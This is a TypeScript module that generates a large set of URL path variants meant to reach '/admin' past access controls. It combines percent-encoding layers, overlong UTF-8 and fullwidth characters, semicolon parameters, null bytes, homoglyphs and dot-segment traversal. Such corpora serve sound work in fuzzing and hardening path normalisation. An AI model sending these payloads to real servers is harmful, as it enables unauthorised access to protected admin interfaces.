/** Spellings of `/admin` that some server somewhere takes for it, and climbs that end there. */

/** Every octet escaped, `levels` times over. */
function encoded(text: string, levels: number): string {
  let result = text;
  for (let level = 0; level < levels; level += 1) {
    result = level === 0 ? result.replaceAll(/./g, escaped) : result.replaceAll('%', '%25');
  }
  return result;
}

function escaped(character: string): string {
  return `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`;
}

const DOTS = ['.', '..', '...', '. .'].flatMap((dots) => [0, 1, 2, 3].map((levels) => encoded(dots, levels)));
const ODD_DOTS = [
  '.%2e',
  '%2E.',
  '..%20',
  '..%09',
  '..%00',
  '..;',
  '..;x=1',
  ';..',
  ';/..',
  '%c0%ae%c0%ae',
  '%e0%80%ae%e0%80%ae',
  '%u002e%u002e',
  '%%32%65%%32%65',
  '%ef%bc%8e%ef%bc%8e',
  '%e2%80%a5',
  '%e2%80%a4%e2%80%a4',
  '.%c2%ad.',
  '%25%32%65%25%32%65',
  '%ef%bc%852e%ef%bc%852e',
];
const SLASHES = [
  '/',
  '//',
  '/;/',
  ';/',
  '%3b/',
  ...[1, 2, 3].map((levels) => encoded('/', levels)),
  '%2F',
  '\\',
  ...[1, 2, 3].map((levels) => encoded('\\', levels)),
  '%c0%af',
  '%e0%80%af',
  '%u002f',
  '%ef%bc%8f',
  '%ef%bc%bc',
  '%e2%88%95',
  ';x%2f',
  ';x%252f',
  '%3bx%2f',
];
const NAMES = [
  'admin',
  'Admin',
  'ADMIN',
  ...[1, 2, 3].map((levels) => encoded('admin', levels)),
  '%61dmin',
  'a%64min',
  '%2561dmin',
  'adm%c4%b1n',
  'adm%c4%b0n',
  'adm%c3%adn',
  'adm%69%cc%81n',
  '%ef%bd%81dmin',
  '%ef%bc%a1DMIN',
  '%f0%9d%90%9admin',
  '%e2%93%90dmin',
  'ad%c2%admin',
  'ad%e2%80%8bmin',
  'admin.',
  'admin..',
  'admin%20',
  'admin%2e%20',
  'admin%00',
  'admin%09',
  '%20admin',
  'admin;',
  'admin;x=1',
  'admin%3bx',
  'admin%253bx',
  'admin;x%2fy',
  'admin;x%5cy',
  'admin;x%252fy',
  'admin%3bx%2fy',
  'admin%ef%bc%9bx',
  'admin%cd%bex',
  '%25%36%31dmin',
  '%ef%bc%8561dmin',
];

/** All different. */
export function mutations(): readonly string[] {
  const all = new Set<string>();
  const dots = [...DOTS, ...ODD_DOTS];
  for (const name of NAMES) {
    for (const end of ['', '/', '/x', '//', '/x;y', '?a=/public']) all.add(`/${name}${end}`);
    for (const slash of SLASHES) {
      all.add(`${slash}${name}`);
      all.add(`/${name}${slash}x`);
      all.add(`/${slash}${name}`);
      all.add(`/a${slash}${name}/`);
    }
  }
  for (const slash of SLASHES) {
    for (const other of SLASHES) {
      all.add(`/admin${slash}x${other}y`);
      all.add(`/a${slash}admin${other}x`);
      all.add(`/ADMIN%20${slash}a${other}x/x`);
    }
  }
  for (const dot of dots) {
    for (const slash of SLASHES) {
      all.add(`/public${slash}${dot}${slash}admin`);
      all.add(`/public/${dot}${slash}admin`);
      all.add(`/public${slash}${dot}/admin/x`);
      all.add(`/${dot}${slash}admin`);
      all.add(`/public/x${slash}${dot}${slash}${dot}${slash}admin`);
    }
  }
  return [...all];
}
